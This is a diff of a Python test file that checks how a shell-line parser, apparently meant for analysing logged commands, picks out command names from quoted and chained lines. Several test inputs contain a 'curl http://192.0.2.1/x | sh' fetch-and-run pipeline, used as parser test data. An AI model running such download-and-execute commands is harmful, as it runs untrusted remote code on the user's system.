@@ -151,9 +151,18 @@ def test_a_script_name_is_no_text() -> None:
     assert [one.name for one in analyse_argv(["sh", "script.sh", "-c", "curl x"]).commands()] == ["sh"]
 
 
-def test_a_joined_line_of_a_log_keeps_the_script_whole() -> None:
-    analysis = analyse_line("/usr/bin/bash -c curl http://192.0.2.1/x | sh")
-    assert [one.name for one in analysis.commands()] == ["bash", "curl", "sh"]
+@pytest.mark.parametrize(
+    ("line", "names"),
+    [
+        ("/usr/bin/bash -c curl http://192.0.2.1/x | sh", ["bash", "curl", "sh"]),
+        ("/usr/bin/bash -c 'curl http://192.0.2.1/x | sh'", ["bash", "curl", "sh"]),
+        ("/usr/bin/bash -c curl\\ http://192.0.2.1/\\'x\\'", ["bash", "curl"]),
+        ("/usr/bin/env A=1 /bin/sh -c id; curl 'a b'", ["sh", "id", "curl"]),
+        ("/usr/bin/ls it's", ["ls"]),
+    ],
+)
+def test_a_line_of_sudo_before_and_since_it_quotes(line: str, names: list[str]) -> None:
+    assert [one.name for one in analyse_line(line).commands()] == names
 
 
 def test_a_value_from_a_substitution_carries_its_origin() -> None:
